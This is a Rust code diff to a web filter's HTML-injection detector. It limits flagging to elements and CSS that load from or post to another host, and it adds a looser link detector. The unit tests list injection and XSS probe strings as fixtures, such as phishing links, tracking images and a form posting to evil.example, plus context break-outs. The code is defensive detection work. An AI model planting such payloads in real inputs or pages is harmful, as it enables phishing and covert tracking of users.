@@ -366,9 +366,7 @@ fn attr_pairs(s: &[u8], html_values: bool) -> impl Iterator<Item = Attr<'_>> {
             while i < s.len()
                 && match quote {
                     Some(q) => s[i] != q,
-                    None => {
-                        !(is_sep(s[i]) && (!html_values || s[i] != b'/')) && s[i] != b'>'
-                    }
+                    None => !(is_sep(s[i]) && (!html_values || s[i] != b'/')) && s[i] != b'>',
                 }
             {
                 i += 1;
@@ -707,19 +705,19 @@ pub fn is_html_injection(v: &[u8]) -> bool {
 /// HTML injection (content injection, the first step of XSS and of
 /// phishing through a trusted page), in the shape of a probe or a
 /// planted link: a value whose markup is one element that links to,
-/// loads from or posts to a URL the sender chose — `<a href=…>text</a>`,
-/// `<IMG SRC="…">`, `<math><a xlink:href=//…>`, `<form action=…>`, a
-/// `style` whose declaration loads a resource (`content:url(…)`) —
-/// perhaps after a context break-out (`">`, `'>`) and wrapper tags
-/// without attributes, followed only by text and closing tags; or a value
-/// that is a CSS declaration loading a resource (`background:url(…)`).
-/// Page markup that real traffic carries (consent texts, analytics
-/// beacons describing the page) is several elements with structure
-/// (`<p>By clicking… <a href=…>Terms</a> and <a href=…>Privacy</a></p>`,
-/// `<div class=…><picture><source srcset=…>`) and is not flagged; a link
-/// to a fragment of the page (`href="#top"`) or an empty one loads
-/// nothing. Bounded: one pass to the first tag, one tag read, one scan
-/// for a further `<`.
+/// loads from or posts to another host — `<a href="http://…">text</a>`,
+/// `<IMG SRC="//…">`, `<math><a xlink:href=//…>`, `<form action=https://…>`,
+/// a `style` loading `url(//…)` — perhaps after a context break-out
+/// (`">`, `'>`) and wrapper tags without attributes, followed only by
+/// text and closing tags; or a value that is CSS loading a resource from
+/// another host (`background:url(//…)`). Page markup that real traffic
+/// carries (consent texts, analytics beacons describing the page) is
+/// several elements with structure (`<p>By clicking… <a href=…>Terms</a>
+/// and <a href=…>Privacy</a></p>`, `<div class=…><picture><source
+/// srcset=…>`) and is left to paranoia 2 (`detect_html_links`); a
+/// site-relative link, a fragment, `mailto:`, `tel:` and inline
+/// `data:image/…` fetch nothing from elsewhere. Bounded: one pass to the
+/// first tag, one tag read, one scan for a further `<`.
 pub(crate) fn detect_html_injection(v: &[u8]) -> Option<Range<usize>> {
     let lead = v
         .iter()
@@ -731,6 +729,23 @@ pub(crate) fn detect_html_injection(v: &[u8]) -> Option<Range<usize>> {
     css_declaration(&v[lead..]).map(|r| lead + r.start..lead + r.end)
 }
 
+/// Any element of a value that links to, loads from or posts to a URL,
+/// wherever it sits (`<p>… <a href=…>…</a></p>`), or CSS loading a
+/// resource: `detect_html_injection` without its lone-element shape, for
+/// paranoia 2 (real pages' consent texts and analytics beacons carry such
+/// markup).
+pub(crate) fn detect_html_links(v: &[u8]) -> Option<Range<usize>> {
+    let mut i = 0;
+    while let Some(p) = v[i..].iter().position(|&b| b == b'<') {
+        let at = i + p;
+        i = at + 1;
+        if let Some(r) = linking_tag(v, at) {
+            return Some(r);
+        }
+    }
+    detect_html_injection(v)
+}
+
 /// The element at `v[at] == '<'` (after wrapper tags without attributes)
 /// if it links, and nothing but text and closing tags follows it.
 fn lone_linking_element(v: &[u8], mut at: usize) -> Option<Range<usize>> {
@@ -739,7 +754,9 @@ fn lone_linking_element(v: &[u8], mut at: usize) -> Option<Range<usize>> {
         if v.get(at + 1) == Some(&b'/') {
             return None;
         }
-        let bare = v[j..end].iter().all(|&b| b == b'>' || b == b'/' || is_sep(b));
+        let bare = v[j..end]
+            .iter()
+            .all(|&b| b == b'>' || b == b'/' || is_sep(b));
         if bare && v.get(end) == Some(&b'<') {
             at = end;
             continue;
@@ -759,7 +776,10 @@ fn lone_linking_element(v: &[u8], mut at: usize) -> Option<Range<usize>> {
 /// img: url(size: 64) }`) opens with neither.
 fn css_declaration(v: &[u8]) -> Option<Range<usize>> {
     let head = v.iter().take(64).position(|&b| b == b'{').unwrap_or(0);
-    if v[..head].iter().any(|&b| matches!(b, b'(' | b')' | b';' | b'}' | b'"')) {
+    if v[..head]
+        .iter()
+        .any(|&b| matches!(b, b'(' | b')' | b';' | b'}' | b'"'))
+    {
         return None;
     }
     let decl = if head > 0 { &v[head + 1..] } else { v }.trim_ascii_start();
@@ -779,28 +799,39 @@ fn linking_tag(v: &[u8], at: usize) -> Option<Range<usize>> {
     if v.get(at + 1) == Some(&b'/') {
         return None;
     }
-    let (name, j, end) = open_tag(v, at)?;
-    let local = name.rsplit(|&b| b == b':').next().unwrap_or(name);
-    let form = lower_eq(local, b"form");
+    let (_, j, end) = open_tag(v, at)?;
     attr_pairs(&v[j..end], true)
         .any(|a| {
-            let value = a.value.trim_ascii();
-            let value = value
-                .strip_prefix(b"\"")
-                .or_else(|| value.strip_prefix(b"'"))
-                .unwrap_or(value)
-                .trim_ascii_start();
-            let links = LINK_ATTRS.iter().any(|n| lower_eq(a.name, n))
-                && !value.is_empty()
-                && value[0] != b'#';
-            links
-                || form && (lower_eq(a.name, b"action") || lower_eq(a.name, b"method"))
-                || lower_eq(a.name, b"style") && css_url_in(value)
+            LINK_ATTRS.iter().any(|n| lower_eq(a.name, n)) && off_site(a.value)
+                || lower_eq(a.name, b"style") && css_url_in(a.value)
         })
         .then_some(at..end)
 }
 
-/// Whether a style text holds a `url(` (any case).
+/// Whether a URL (perhaps quoted) points to another host: `scheme://…`
+/// or scheme-relative `//…` (browsers read `\` as `/` there). A
+/// site-relative link (`/docs#install`, `x.png`), a fragment, `mailto:`,
+/// `tel:` and an inline `data:image/…` fetch nothing from elsewhere.
+fn off_site(url: &[u8]) -> bool {
+    let url = url.trim_ascii();
+    let url = url
+        .strip_prefix(b"\"")
+        .or_else(|| url.strip_prefix(b"'"))
+        .unwrap_or(url)
+        .trim_ascii_start();
+    let scheme = url
+        .iter()
+        .take(16)
+        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'.' | b'-'))
+        .count();
+    let rest = match url.get(scheme) {
+        Some(b':') if scheme > 0 && url[0].is_ascii_alphabetic() => &url[scheme + 1..],
+        _ => url,
+    };
+    rest.len() > 2 && rest[..2].iter().all(|&b| b == b'/' || b == b'\\')
+}
+
+/// Whether a style text loads a resource from another host (`url(//…)`).
 fn css_url_in(style: &[u8]) -> bool {
     style
         .iter()
@@ -808,10 +839,11 @@ fn css_url_in(style: &[u8]) -> bool {
         .any(|(k, &b)| b == b'(' && css_resource(style, k).is_some())
 }
 
-/// A CSS declaration loading a resource, `v[paren] == '('`: `url(`
-/// right before it, and before that (blanks skipped) the `:` of a
-/// declaration or the `,` of a value list, after a property name
-/// (`background:url(x)`, `src: url("font.svg#x")`, `mask:url(#a), url(b)`).
+/// A CSS declaration loading a resource from another host, `v[paren] ==
+/// '('`: `url(` right before it, and before that (blanks skipped) the `:`
+/// of a declaration or the `,` of a value list, after a property name
+/// (`background:url(//x/p.png)`, `src: url("https://x/f.svg#x")`,
+/// `mask:url(#a), url(//x/m.svg)`).
 fn css_resource(v: &[u8], paren: usize) -> Option<Range<usize>> {
     let start = paren.checked_sub(3)?;
     if !lower_eq(&v[start..paren], b"url") {
@@ -834,7 +866,8 @@ fn css_resource(v: &[u8], paren: usize) -> Option<Range<usize>> {
         _ => false,
     };
     let close = v[paren..].iter().position(|&b| b == b')')?;
-    (declared && close > 1).then_some(start..paren + close + 1)
+    let url = &v[paren + 1..paren + close];
+    (declared && off_site(url)).then_some(start..paren + close + 1)
 }
 
 #[cfg(test)]
@@ -919,16 +952,14 @@ mod tests {
             &[
                 "<a href=\"http://attacker.example/login\">Sign in again</a>",
                 "<A HREF=\"http://66.102.7.147/\">XSS</A>",
-                "<img src=x>",
                 "<IMG SRC=\"http://evil.example/track.php?c=1\">",
                 "<math><a xlink:href=\"//evil.example/\">click",
-                "<form action=\"\" method=\"post\">",
-                "<FORM METHOD=POST>",
+                "<form action=\"https://evil.example/c\" method=\"post\">",
                 "<link rel=stylesheet href=\"//evil.example/x.css\">",
-                "<div style=content:url(test2.svg)></div>",
+                "<div style=content:url(http://evil.example/x.svg)></div>",
                 "<p style=\"background-image: URL('//evil.example/p.png')\">",
                 "*{background:url(//evil.example/p.png)}",
-                "@font-face {font-family: y; src: url(\"font.svg#x\")}",
+                "@font-face {font-family: y; src: url(\"https://evil.example/f.svg#x\")}",
                 "mask:url(#a), url(//evil.example/m.svg)",
                 "<video poster=//evil.example/p.png>",
                 "\"><a href=//evil.example/>log in again</a>",
@@ -947,6 +978,13 @@ mod tests {
                 "John <john@example.com>",
                 "a < b and c > d",
                 "<a href=\"#top\">back to top</a>",
+                "<img src=x>",
+                "<ul><li><a href=\"/docs#install\">Install</a></li></ul>",
+                "<a href=\"mailto:bob@example.com\">mail</a>",
+                "<a href=\"tel:+15551234567\">call</a>",
+                "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">",
+                "<div style=\"background:url(/img/hero.jpg)\">banner</div>",
+                "@font-face {font-family: y; src: url(\"font.svg#x\")}",
                 "<a href=\"\">empty</a>",
                 "</a>",
                 "<div class=\"note\">hi</div>",
